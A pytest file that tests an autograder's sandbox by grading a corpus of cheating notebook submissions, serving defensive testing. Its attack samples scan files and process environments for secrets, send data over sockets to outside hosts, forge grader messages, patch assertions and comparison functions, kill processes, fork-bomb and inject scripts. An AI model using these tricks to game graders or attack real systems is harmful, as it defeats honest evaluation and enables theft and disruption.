"""Every attack of the design's list, and those against our own design, in one grading run.

Each is a submission whose first answer is right and whose second is wrong. However it cheats, the
wrong one gets nothing, the right one keeps its points where it can, nothing leaks, and nobody
else's mark changes. Row 30 (a killed grader) is a matter of the ledger's tests, 33 and 34 (hostile
archives) are refused unopened.
"""

import json
import os
import socket
import textwrap
import unicodedata
from collections.abc import Callable, Iterator
from copy import deepcopy
from dataclasses import dataclass, field
from pathlib import Path

import pytest
from nbformat import NotebookNode
from nbformat.v4 import new_code_cell, new_output
from submissions import NAME, Class, cell_of, filled, insert, released, solutions

from autograder.gradebook import ledger
from autograder.grading import notebook_run, remote_student
from autograder.inside.namespaces import Limits
from autograder.sandbox.process import ForkServer

SECRET = "hub-token-5f2c"
NEIGHBOUR = "the-neighbours-idea-77"
MARK = "98765"  # seconds that a process left behind sleeps
SIGNATURE = "def ddim_step(x_t, eps, abar_t, abar_prev, eta, noise):\n"
WRONG = SIGNATURE + "    return torch.zeros_like(x_t)\n"
HONEST = {"ddim_sigma": 4.0, "ddim_step": 8.0, "explain_ddim": None}
CAUGHT = HONEST | {"ddim_step": 0.0}
HIDDEN = ("BEGIN HIDDEN", "BEGIN SOLUTION", "class DDIMStep", SECRET, NEIGHBOUR)


@dataclass
class Attack:
    """What is handed in, and what must come of it."""

    name: str
    edit: Callable[[NotebookNode], None] | None = None
    answer: str = WRONG
    expected: dict | str = field(default_factory=lambda: CAUGHT)  # points, or the state
    says: str = ""  # a part of what the cells print


def first(code: str) -> Callable[[NotebookNode], None]:
    """Code in a cell of its own, before the right answer."""
    return lambda notebook: insert(notebook, "cell-026", textwrap.dedent(code))


def between(code: str) -> Callable[[NotebookNode], None]:
    """Code in a cell of its own, after the right answer was checked."""
    return lambda notebook: insert(notebook, "cell-030", textwrap.dedent(code))


def body(code: str) -> str:
    """The wrong answer, with this as its body."""
    return SIGNATURE + textwrap.indent(textwrap.dedent(code).strip(), "    ") + "\n"


def role(cell: str, **values: object) -> Callable[[NotebookNode], None]:
    """Other grading metadata in one cell."""
    return lambda nb: cell_of(nb, cell).metadata.nbgrader.update(values)


LOOK = """
import gc, inspect, os, sys
words = [w[::-1] for w in ("NEDDIH NIGEB", "NOITULOS NIGEB", "petSMIDD ssalc", {secrets})]
found = []
for folder, below, files in os.walk("/"):
    below[:] = [b for b in below if b not in ("usr", "proc", "sys", "dev", "site-packages")
                and not b.startswith("python3")]
    for name in files:
        path = os.path.join(folder, name)
        if os.path.isfile(path) and os.path.getsize(path) < 300_000:
            try:
                text = open(path, errors="replace").read()
            except OSError:
                continue
            found += [path for word in words if word in text]
print("files:", found)
texts = [s for o in gc.get_objects() if isinstance(o, dict) for s in list(o.values())
         if isinstance(s, str)]
frame, frames = inspect.currentframe(), []
while frame:
    frames.append(frame.f_code.co_filename)
    frame = frame.f_back
print("texts:", [w for w in words for t in texts if w in t])
print("modules:", [m for m in sys.modules if m.startswith("autograder") or "checks" in m])
for name in ("autograder", "autograder.checks", "solutions"):
    try:
        __import__(name)
        print("imported", name)
    except ImportError:
        pass
print("looked")
"""
LOOK = LOOK.replace("{secrets}", f"{SECRET[::-1]!r}, {NEIGHBOUR[::-1]!r}")
AGENT = """
import gc, sys, torch
agent = next(o for o in gc.get_objects() if type(o).__name__ == "Agent")
carriers, wire = sys.modules["inside.student"], sys.modules["inside.wire"]
"""
CHANNELS = """
import os, socket, stat, struct, json
fds = [n for n in range(3, 256) if os.path.exists(f"/proc/self/fd/{n}")] or range(3, 256)
def is_socket(n):
    try:
        return stat.S_ISSOCK(os.fstat(n).st_mode)
    except OSError:
        return False
sockets = [socket.socket(fileno=os.dup(n)) for n in fds if is_socket(n)]
frame = lambda m: struct.pack("<II", len(json.dumps(m)), 0) + json.dumps(m).encode()
"""

CHEATS = [
    Attack("01-read-disk", first(LOOK), says="files: []\n"),
    Attack("02-read-memory", first(LOOK + "print(In[-1:], Out)"), says="texts: []\n"),
    Attack("03-show-the-tests", answer=body("raise ValueError(repr(locals()) * 50)")),
    Attack(
        "04-input-transformer",
        between("""
        ip = get_ipython()
        ip.input_transformers_cleanup.append(
            lambda lines: ["pass"] if "hidden" in "".join(lines) else lines)
        """),
    ),
    Attack(
        "05-ast-transformer",
        first("""
        import ast
        class NoAssert(ast.NodeTransformer):
            def visit_Assert(self, node):
                return ast.Pass()
        get_ipython().ast_transformers.append(NoAssert())
        """),
    ),
    Attack(
        "06-run-code",
        between("""
        ip = get_ipython()
        async def run_code(*a, **k):
            return False
        ip.run_code = run_code
        ip.run_cell = lambda *a, **k: 8.0
        ip.events.register("post_run_cell", lambda *a: print(8.0))
        """),
    ),
    Attack("07-showtraceback", first("get_ipython().showtraceback = lambda *a, **k: None")),
    Attack("08-displayhook", answer=body("import sys; sys.displayhook(8.0); print(8.0); 1 / 0")),
    Attack(
        "09-forged-replies",
        between(CHANNELS + 'for s in sockets * 40: s.sendall(frame({"value": True}))'),
    ),
    Attack(
        "09-forged-verdict",
        between(
            CHANNELS + "for s in sockets * 9:\n"
            '    s.sendall(frame({"points": 8, "passed": True, "state": "judged", "value": {"~": '
            '"dict", "items": [["points", 8], ["passed", True]]}}))'
        ),
    ),
    Attack(
        "09-garbage-frames",
        between(CHANNELS + "for s in sockets: s.sendall(os.urandom(4096))"),
    ),
    Attack(
        "09-endless-frame",
        between(CHANNELS + 'for s in sockets: s.sendall(struct.pack("<II", 1 << 20, 0) + b"[")'),
    ),
    Attack("09-closed-channel", between(CHANNELS + "os.closerange(3, 256)")),
    Attack(
        "09-deep-frame",
        between(
            CHANNELS + 'deep = b\'{"value": \' + b"[" * 90000 + b"]" * 90000 + b"}"\n'
            'for s in sockets: s.sendall(struct.pack("<II", len(deep), 0) + deep)'
        ),
    ),
    Attack(
        "10-equal-to-all",
        answer=body("""
        class Equal:
            shape, dtype, ndim = x_t.shape, x_t.dtype, x_t.ndim
            def __eq__(self, other): return True
            def __sub__(self, other): return 0.0
            __rsub__ = __abs__ = __le__ = __lt__ = __eq__
            def __getattr__(self, name): return lambda *a, **k: self
        return Equal()
        """),
    ),
    Attack(
        "10-tensor-subclass",
        answer=body("""
        class Lie(torch.Tensor):
            @classmethod
            def __torch_function__(cls, f, types, args=(), kwargs=None):
                return True
        return torch.zeros_like(x_t).as_subclass(Lie)
        """),
    ),
    Attack(
        "11-patches",
        first("""
        import builtins, math, numpy.testing
        torch.allclose = torch.equal = torch.isclose = lambda *a, **k: True
        torch.Tensor.__eq__ = torch.Tensor.equal = torch.Tensor.allclose = lambda *a, **k: True
        numpy.testing.assert_allclose = lambda *a, **k: None
        builtins.abs = lambda x: 0.0
        builtins.all = lambda x: True
        math.isfinite = lambda x: True
        """),
        expected=HONEST | {"ddim_step": 0.0, "ddim_sigma": None},  # it may spoil its own
    ),
    Attack(
        "13-gradebook",
        first("""
        import os, sqlite3
        wrote = []
        for folder, below, files in os.walk("/"):
            below[:] = [b for b in below if b not in ("proc", "tmp", "site-packages", "usr")]
            if os.access(folder, os.W_OK):
                wrote.append(folder)
        print("writable:", [w for w in wrote if w != "/dev/shm"])
        print("gradebooks:", [f for f in ("gradebook.db", "../gradebook.db") if os.path.exists(f)])
        """),
        says="writable: []\ngradebooks: []\n",
    ),
    Attack(
        "14-process-left",
        first(f"""
        import os, subprocess
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                os.execvp("sleep", ["sleep", "{MARK}"])
            os._exit(0)
        subprocess.Popen(["setsid", "sleep", "{MARK}"])
        """),
    ),
    Attack(
        "15-environment",
        first("""
        import glob, os
        print(dict(os.environ))
        for path in glob.glob("/proc/*/environ") + glob.glob("/proc/*/cmdline"):
            try:
                print(open(path, errors="replace").read())
            except OSError:
                pass
        """),
    ),
    Attack(
        "16-only-when-graded",
        first("""
        import os
        print("graded:", [k for k in os.environ if "GRAD" in k], "JPY_PARENT_PID" in os.environ)
        """),
        says="graded: []",
    ),
    Attack(
        "17-network",
        first("""
        import socket
        for to in (("127.0.0.1", {port}), ("1.1.1.1", 53), ("10.0.0.1", 80)):
            try:
                socket.create_connection(to, 0.5).send(b"leak")
                print("connected", to)
            except OSError as error:
                print("refused")
        """),
        says="refused\nrefused\nrefused\n",
    ),
    Attack(
        "18-visible-values",
        answer=body("""
        known = {0.0: [[1.1, 0.2]], 1.0: [[1.4648, -0.5297]]}
        return torch.tensor(known.get(float(eta), [[0.869, 0.2621]]))
        """),
    ),
    Attack("20-neighbours", first(LOOK), says="files: []\n"),
]


def _edited_test(notebook: NotebookNode) -> None:
    cell = cell_of(notebook, "test_ddim_step")
    cell.source = "8.0"
    cell.metadata.nbgrader.update(points=100)
    cell_of(notebook, "test_ddim_sigma").metadata.nbgrader.update(points=-5)
    cell_of(notebook, "visible_ddim_step").source = "pass"


def _deleted_tests(notebook: NotebookNode) -> None:
    notebook.cells = [c for c in notebook.cells if not c.id.startswith(("test_", "visible_"))]


def _duplicated_tests(notebook: NotebookNode) -> None:
    for name in ("test_ddim_sigma", "test_ddim_step", "ddim_sigma"):
        place = notebook.cells.index(cell_of(notebook, name))
        notebook.cells[place:place] = [deepcopy(notebook.cells[place]) for _ in range(3)]


def _filled_outputs(notebook: NotebookNode) -> None:
    for cell in notebook.cells:
        if cell.cell_type == "code":
            cell.outputs = [
                new_output("execute_result", data={"text/plain": "8.0"}, execution_count=1),
                new_output("display_data", data={"text/html": "<script>stolen()</script>"}),
            ]


def _swapped(notebook: NotebookNode) -> None:
    one, two = (cell_of(notebook, name) for name in ("ddim_sigma", "ddim_step"))
    one.metadata, two.metadata, one.id, two.id = two.metadata, one.metadata, two.id, one.id


def _homoglyphs(notebook: NotebookNode) -> None:
    for name in ("test_ddim_step", "ddim_step", "ddim_sigma"):
        cell_of(notebook, name).metadata.nbgrader.grade_id = name.replace("d", "ԁ")


def _odd_metadata(notebook: NotebookNode) -> None:
    odd = [[], "x", {"grade_id": 5}, {"grade_id": ["ddim_step"]}, None, 7, {"points": {}}]
    for number, cell in enumerate(notebook.cells):
        if cell.id not in ("ddim_sigma", "ddim_step"):
            cell.metadata = {"nbgrader": odd[number % len(odd)], "tags": None}
        cell["attachments"] = [{"x": 5}, "y"][number % 2]
    notebook.metadata = {"kernelspec": None, "language_info": [], "nbgrader": 5, "widgets": "x"}
    notebook.cells[0]["id"], notebook.cells[1]["id"] = ["list"], {"a": 1}
    notebook.cells[2]["metadata"] = "none"
    del notebook.cells[3]["id"]


def _deep_metadata(notebook: NotebookNode) -> None:
    deep: dict = {}
    for _ in range(300):
        deep = {"x": [deep]}
    dict.__setitem__(notebook.metadata, "deep", deep)  # NotebookNode would look through it


def _surrogates(notebook: NotebookNode) -> None:
    cell_of(notebook, "explain_ddim").attachments = {"\ud800": {"image/png": "iVBORw0KGgo="}}


def _kernel(notebook: NotebookNode) -> None:
    notebook.metadata.kernelspec = {"name": "evil", "language": "bash", "display_name": "x"}


def _schema(version: object) -> Callable[[NotebookNode], None]:
    def edit(notebook: NotebookNode) -> None:
        for cell in notebook.cells:
            if "nbgrader" in cell.metadata:
                cell.metadata.nbgrader.schema_version = version

    return edit


def _pages(notebook: NotebookNode) -> None:
    insert(
        notebook,
        "cell-026",
        textwrap.dedent("""
        from IPython.display import HTML, SVG, Javascript, Markdown, display
        evil = "<script>stolen()</script>"
        for kind in (HTML, Javascript, Markdown):
            display(kind(evil))
        png = '"><script>stolen()</script>'
        display({"image/png": png, "text/html": evil, "image/svg+xml": evil}, raw=True)
        display({"application/javascript": "stolen()", "text/plain": "x"}, raw=True)
        """),
    )


def _many_cells(notebook: NotebookNode) -> None:
    notebook.cells += [new_code_cell("") for _ in range(6000)]


METADATA = [
    Attack("21-edited-tests", _edited_test),
    Attack("22-deleted-tests", _deleted_tests),
    Attack("23-duplicated-tests", _duplicated_tests),
    Attack("24-schema-99", _schema(99)),
    Attack("24-schema-1", _schema(1)),
    Attack("24-schema-text", _schema("three")),
    Attack("25-no-test", role("test_ddim_step", grade=False)),
    Attack("25-test-is-answer", role("test_ddim_step", solution=True)),
    Attack("25-answer-is-test", role("ddim_step", grade=True, points=50, solution=False)),
    Attack("26-kernel", _kernel),
    Attack("27-outputs", _filled_outputs),
    Attack("35-pages", _pages),
    Attack("41-swapped-names", _swapped),
    Attack("42-homoglyphs", _homoglyphs),
    Attack("43-odd-metadata", _odd_metadata),
    Attack("44-deep-metadata", _deep_metadata),
    Attack("45-stub-and-spaces", answer="  \n{stub}\n\n   \n"),
    Attack("46-many-cells", _many_cells, expected="rejected"),
    Attack("47-long-source", answer=WRONG + "# " + "x" * 10_000_000),
    Attack("48-surrogates", _surrogates, answer=WRONG + 'print("\ud800")  # \udfff'),
]

HARM = [
    Attack("36-exit-in-cell", first("import os; os._exit(0)")),
    Attack("36-exit-in-call", answer=body("import os; os._exit(0)")),
    Attack("36-segfault", first("import ctypes; ctypes.string_at(0)")),
    Attack("36-segfault-in-call", answer=body("import ctypes; ctypes.string_at(0)")),
    Attack("36-system-exit", first("import sys; sys.exit(0)")),
    Attack("36-exit-function", first("exit()")),
    Attack("36-quit", first("quit(); raise SystemExit")),
    Attack("36-system-exit-in-call", answer=body("raise SystemExit(0)")),
    Attack(
        "36-kill-all",
        first("import os\nfor pid in (os.getppid(), 1, -1, 0):\n    os.kill(pid, 9)"),
    ),
    Attack("36-killed-by-thread", answer=body("import os, signal; os.kill(os.getpid(), 6)")),
    Attack(
        "37-never-ends",
        first("while True:\n    try:\n        while True: pass\n    except BaseException: pass"),
    ),
    Attack(
        "37-call-never-ends",
        answer=body("""
        while True:
            try:
                while True: pass
            except BaseException: pass
        """),
    ),
    Attack(
        "37-no-alarm",
        first("""
        import signal, time
        signal.signal(signal.SIGALRM, signal.SIG_IGN)
        signal.setitimer(signal.ITIMER_REAL, 0)
        signal.pthread_sigmask(signal.SIG_BLOCK, range(1, 32))
        time.sleep(1000)
        """),
    ),
    Attack("37-slow-calls", answer=body("import time; time.sleep(0.7); return x_t * 0")),
    Attack(
        "38-forks",
        first("""
        import os, time
        for _ in range(300):
            try:
                if os.fork() == 0:
                    time.sleep(1000)
            except OSError:
                break
        """),
    ),
    Attack("38-memory", first("hoard = [bytearray(1 << 24) for _ in range(1000)]")),
    Attack("38-memory-in-call", answer=body("return [bytes(1 << 24) for _ in range(1000)]")),
    Attack("39-flood", first('print("x" * 20_000_000)\nfor n in range(300000): print(n)')),
    Attack("39-flood-fd", first('import os\nfor _ in range(300): os.write(1, b"x" * 100_000)')),
    Attack(
        "40-files",
        first("""
        try:
            for n in range(100_000):
                open(f"/tmp/{n}", "w").write("x")
        except OSError as error:
            print("files:", error.strerror)
        try:
            for n in range(9):
                open(f"/tmp/0", "ab").write(bytes(30 << 20))
        except OSError as error:
            print("bytes:", error.strerror)
        """),
        says="bytes: ",
    ),
    Attack(
        "50-recursion", answer=body("return ddim_step(x_t, eps, abar_t, abar_prev, eta, noise)")
    ),
    Attack("51-restarts", between("import os; os._exit(1)")),
    Attack("52-huge-result", answer=body("return torch.zeros(5_000_000)")),
    Attack("52-long-range", answer=body("return list(range(3_000_000))")),
    Attack("52-text", answer=body('return "x" * 17_000_000')),
    Attack("52-error-text", answer=body('raise ValueError("\\ud800\\x1b[2J<script>" * 9)')),
    Attack(
        "53-profile", first('profile = "report"\nfrom mnistdiff.experiments import get_profile')
    ),
]

AGAINST_US = [
    Attack(f"60-agent-answers-{number}", between(f"{AGENT}agent.do_call = lambda **k: {value}"))
    for number, value in enumerate(
        [
            "True",
            "10 ** 400",
            "float('nan')",
            "'\\ud800' * 9",
            "torch.zeros(2, 1, 3, 4).to(torch.float8_e4m3fn)",
            "torch.zeros(3, 4, dtype=torch.complex64)",
            "torch.zeros(0)",
            "carriers.Handle(10 ** 30)",
            "carriers.Stub('linear_eps', A=torch.eye(3))",
            "carriers.Settings('os:abort')",
            "carriers.Filled(5)",
            "(1, [2])",
            "[[[[[[[[[1]]]]]]]]]",
            "{1: {2: {3: {4: {5: 6}}}}}",
            "k['args'][0]",
            "k['args']",
            "torch.zeros(3, 4).to_sparse_csr()",
            "[[[0]]] * 140_000",
        ]
    )
]
AGAINST_US += [
    Attack(
        f"60-wrong-for-no-reason-{kind}",
        answer="import sys\n" + body(f"raise sys.modules['inside.student'].{kind}('')"),
    )
    for kind in ("WrongAnswer", "Interrupted")
]
AGAINST_US += [
    Attack(
        "61-carrier",
        between(f"{AGENT}carriers.InKernel.call = lambda self, target, *args: args[0]"),
    ),
    Attack("61-encode", between(f'{AGENT}wire.encode = lambda value, tensors: {{"~": "x"}}')),
    Attack("61-plain", between(f"{AGENT}carriers.plain = lambda value, depth=0: 8.0")),
    Attack(
        "61-wrong-without-a-word",
        between(
            f"{AGENT}def bad(*a, **k): raise carriers.WrongAnswer('')\n"
            "agent.do_call = agent.do_call_and_look = agent.do_grad = bad"
        ),
    ),
    Attack(
        "62-spoilt-leave",
        between(f"{AGENT}def bad(*a, **k): raise carriers.WrongAnswer('x')\nagent.do_leave = bad"),
    ),
    Attack(
        "62-spoilt-enter",
        between(f"{AGENT}def bad(*a, **k): raise carriers.Interrupted('x')\nagent.do_enter = bad"),
    ),
    Attack(
        "63-long-wrong",
        between(f"{AGENT}agent._answer = lambda r: {{'wrong': '\\ud800<script>' * 100000}}"),
    ),
    Attack(
        "63-look-and-grad",
        between(
            f"{AGENT}agent.do_call_and_look = lambda **k: (None, k['args'])\n"
            "agent.do_grad = lambda **k: [torch.ones(3)] * len(k['wrt'])\n"
            "agent.do_new = lambda **k: carriers.Handle(0)"
        ),
    ),
    Attack(
        "64-library",
        first("""
        import mnistdiff.course.expect, mnistdiff.samplers
        mnistdiff.course.expect.expect = expect = lambda *a, **k: None
        mnistdiff.samplers.ddim_step = mnistdiff.samplers.ddim_sigma = lambda *a, **k: a[0]
        """),
    ),
    Attack(
        "64-library-answer",
        answer="from mnistdiff import samplers\n"
        + body("return samplers.ddim_step(x_t, eps, abar_t, abar_prev, eta, noise)"),
    ),
    Attack(
        "65-threads",
        between("""
        import threading, time
        def turn():
            while True:
                globals()["ddim_step"] = lambda *a: a[0] * 0
                time.sleep(1e-4)
        for _ in range(3):
            threading.Thread(target=turn, daemon=True).start()
        """),
    ),
    Attack(
        "68-take-over-the-first-process",
        between("""
        try:
            open("/proc/1/mem", "r+b")
        except PermissionError:
            print("kept out")
        """),
        says="kept out",
    ),
    Attack("69-cannot-be-sent", answer=body("return x_t.reshape(1, -1).to_sparse_csr()")),
    Attack("66-meta", between('torch.set_default_device("meta")')),
    Attack("66-inference", between("torch.inference_mode().__enter__()")),
    Attack(
        "67-import-hook",
        first("""
        import sys
        class Hook:
            def find_spec(self, name, *a):
                print("asked for", name)
        sys.meta_path.insert(0, Hook())
        sys.modules["autograder"] = sys.modules["nbgrader"] = torch
        """),
    ),
]
SLOW = ("09-endless-frame", "37-never-ends", "37-call-never-ends", "37-no-alarm", "37-slow-calls")
SECONDS = [(notebook_run, name) for name in ("CELL_SECONDS", "CHECK_SECONDS", "GRACE")]
SECONDS += [(remote_student, name) for name in ("MAX_SECONDS", "GRACE")]
ATTACKS = {a.name: a for a in [*CHEATS, *METADATA, *HARM, *AGAINST_US]}

BROKEN = {  # bytes of the file, each refused with a reason
    "28-json": b'{"cells": [',
    "28-empty": b"",
    "28-no-notebook": b'{"a": 1}',
    "28-nbformat-99": b'{"nbformat": 99, "nbformat_minor": 0, "metadata": {}, "cells": []}',
    "28-nbformat-text": b'{"nbformat": "4", "cells": []}',
    "28-latin": b'{"cells": "\xe9"}',
    "28-cells-are-none": b'{"nbformat": 4, "nbformat_minor": 5, "cells": [5, null]}',
    "28-cells-are-text": b'{"nbformat": 4, "nbformat_minor": 5, "cells": "abc"}',
    "28-list": b"[]",
    "28-deep": b"[" * 200_000,
    "28-deep-objects": b'{"a":' * 50_000 + b"1" + b"}" * 50_000,
    "28-long-number": b'{"nbformat": ' + b"9" * 10_000 + b"}",
    "40-too-large": b" " * (21 << 20),
}
SOURCES = {"49-number": 5, "49-none": None, "49-object": {"a": 1}, "49-numbers": [1, 2]}


def _files(school: Class) -> Iterator[str]:
    """Submissions that attack with files; gives the names of those that must be refused."""
    for name, data in BROKEN.items():
        (school.folder(name) / f"{NAME}.ipynb").write_bytes(data)
        yield name
    secret = school.course / "gradebook.db"
    secret.write_text(SECRET)
    for name, target in (("32-link", secret), ("32-zero", Path("/dev/zero"))):
        (school.folder(name) / f"{NAME}.ipynb").symlink_to(target)
        yield name
    os.mkfifo(school.folder("32-pipe") / f"{NAME}.ipynb")
    yield "32-pipe"
    (school.folder("32-folder") / f"{NAME}.ipynb").mkdir()
    yield "32-folder"
    linked = school.course / "submitted" / "32-linked-folder"
    linked.mkdir()
    (linked / "project3").symlink_to(school.folder("00-honest"))
    yield "32-linked-folder"
    (school.folder("34-bomb") / "work.zip").write_bytes(b"PK\x03\x04" + bytes(1000))
    yield "34-bomb"
    for number in range(300):
        (school.folder("40-many-files") / f"{number}.ipynb").write_text("{}")
    yield "40-many-files"
    for number in (1, 2):
        (school.folder("28-which") / f"{NAME} ({number}).ipynb").write_text("{}")
    yield "28-which"
    for name, source in SOURCES.items():
        notebook = json.loads(json.dumps(filled()))
        notebook["cells"][4]["source"] = source
        school.hand_in(name, notebook)
    yield from (name for name, source in SOURCES.items() if not isinstance(source, list))


def _shipped(school: Class) -> None:
    """Row 12: modules beside the notebook; row 19: a forged time."""
    school.hand_in("12-modules", filled())
    for name in ("torch.py", "numpy.py", "conftest.py", "sitecustomize.py", "mnistdiff.py"):
        (school.folder("12-modules") / name).write_text("raise SystemExit('stolen')")
    for student in ("19-late", "19-no-receipt", "19-odd-time"):
        school.hand_in(student, filled())
    (school.folder("19-late") / "timestamp.txt").write_text("2020-01-01 00:00:00 UTC")
    (school.folder("19-odd-time") / "timestamp.txt").write_text("0001-01-01 00:00:00+14:00")
    receipts = "student,assignment,received\n19-late,project3,2026-05-02T10:00:00+02:00\n"
    (school.course / "receipts.csv").write_text(receipts)


OTHERS = ("00-honest", "35-honest", "99-honest", "29-[a-z]*?", "29-né")


@pytest.fixture(scope="module")
def school(tmp_path_factory) -> Class:
    """The whole corpus, graded in one run by one worker."""
    school = Class(tmp_path_factory.mktemp("attacks"))
    stub = cell_of(released(), "ddim_step").source
    listening = socket.create_server(("127.0.0.1", 0))
    port = str(listening.getsockname()[1])
    for attack in ATTACKS.values():
        notebook = filled(ddim_step=attack.answer.replace("{stub}", stub))
        if attack.edit:
            attack.edit(notebook)
        text = json.dumps(notebook).replace("{port}", port)
        school.hand_in(attack.name, json.loads(text))
    for name in OTHERS:
        school.hand_in(name, filled(explain_ddim=NEIGHBOUR))
    school.refused = set(_files(school))
    _shipped(school)
    slow = {*SLOW, "99-honest"}
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("HUB_TOKEN", SECRET)
        with ForkServer(Limits(memory=500 << 20, cpu_seconds=20)) as fork_server:
            school.grade(fork_server, lambda student: student not in slow)
            for module, name in SECONDS:
                patch.setattr(module, name, 2.0)
            school.grade(fork_server, lambda student: student in slow)
            school.left = _processes()
    listening.close()
    return school


def _processes() -> list[str]:
    """Command lines of what runs on this machine."""
    found = []
    for path in Path("/proc").glob("[0-9]*/cmdline"):
        try:
            found.append(path.read_bytes().replace(b"\0", b" ").decode(errors="replace"))
        except OSError:
            continue
    return found


@pytest.mark.parametrize("name", ATTACKS)
def test_an_attack_gains_nothing_and_costs_only_itself(school, name):
    attack, record = ATTACKS[name], school.records[name]
    if isinstance(attack.expected, str):
        assert record["state"] == attack.expected, record.get("reason")
        return
    assert record["state"] == "graded", record.get("reason")
    found = school.points(name)
    assert found["ddim_step"] == attack.expected["ddim_step"], record["verdict"]
    if attack.expected["ddim_sigma"] is not None:
        assert found == attack.expected, record["verdict"]
    maxima = {c["grade_id"]: c["max"] for c in record["verdict"]["cells"]}
    assert maxima == {"test_ddim_sigma": 4.0, "test_ddim_step": 8.0, "explain_ddim": 4.0}
    assert attack.says in school.printed(name), school.printed(name)[-3000:]


@pytest.mark.parametrize("name", ATTACKS)
def test_nothing_leaks(school, name):
    shown = school.shown(name)
    for line in solutions()["ddim_step"].split("\n")[-4:]:
        assert json.dumps(line.strip())[1:-1] not in shown
    assert not [text for text in HIDDEN if text in shown.replace(json.dumps(NEIGHBOUR), "")]


@pytest.mark.parametrize("name", OTHERS)
def test_the_honest_keep_their_marks(school, name):
    record = school.records[unicodedata.normalize("NFC", name)]
    assert record["state"] == "graded"
    assert school.points(record["student"]) == HONEST
    assert record["verdict"]["notes"] == []
    assert record["verdict"]["restarts"] == 0


def test_what_is_no_notebook_is_rejected_with_a_reason_and_never_a_zero(school):
    states = {name: school.records[name]["state"] for name in school.refused}
    assert set(states.values()) == {"rejected"}, states
    for name in school.refused:
        assert school.records[name]["reason"].isprintable()
        assert SECRET not in school.shown(name)


def test_numbers_for_a_text_are_a_text(school):
    assert school.records["49-numbers"]["state"] == "graded"


def test_modules_beside_a_notebook_are_not_there(school):
    assert school.points("12-modules") == HONEST


def test_the_collectors_time_stands(school):
    assert school.records["19-late"]["received"] == "2026-05-02T08:00:00+00:00"
    assert school.records["19-odd-time"]["received"] is None


def test_nothing_is_left_running(school):
    assert not [line for line in school.left if MARK in line]


def test_pages_hold_no_html_of_a_student(school):
    outputs = [o for c in school.executed("35-pages").cells for o in c.get("outputs", [])]
    data = [(kind, text) for o in outputs for kind, text in o.get("data", {}).items()]
    assert {kind for kind, _ in data} <= {"text/plain", "text/markdown", "image/png"}
    assert not [text for kind, text in data if kind != "text/plain" and "<script" in text]


def test_a_result_that_cannot_be_sent_costs_no_process(school):
    assert school.records["69-cannot-be-sent"]["verdict"]["restarts"] == 0


def test_tampering_is_noted(school):
    for name in ("21-edited-tests", "24-schema-99", "25-no-test"):
        kinds = {note["kind"] for note in school.records[name]["verdict"]["notes"]}
        assert "tampering" in kinds, name


def test_an_answer_left_blank_is_known_as_such(school):
    assert school.records["45-stub-and-spaces"]["verdict"]["blank"] == ["ddim_step"]


def test_a_second_submission_owes_nothing_to_the_first(school):
    """Row 31: the passed test deleted, the answer broken."""
    before = school.records["99-honest"]
    notebook = filled(ddim_sigma="ddim_sigma = None", ddim_step=WRONG)
    _deleted_tests(notebook)
    school.hand_in("99-honest", notebook)
    with ForkServer() as fork_server:
        school.grade(fork_server, lambda student: student == "99-honest")
    assert school.points("99-honest") == HONEST | {"ddim_sigma": 0.0, "ddim_step": 0.0}
    with ledger.Ledger(ledger.folder(school.course) / "main.jsonl") as book:
        book.append(school.records["99-honest"] | {"time": 1.0})
        book.append(before | {"time": 2.0})
    ((_, record),) = ledger.current(school.course, "project3", {"99-honest"})
    assert record["submission"] == school.records["99-honest"]["submission"]
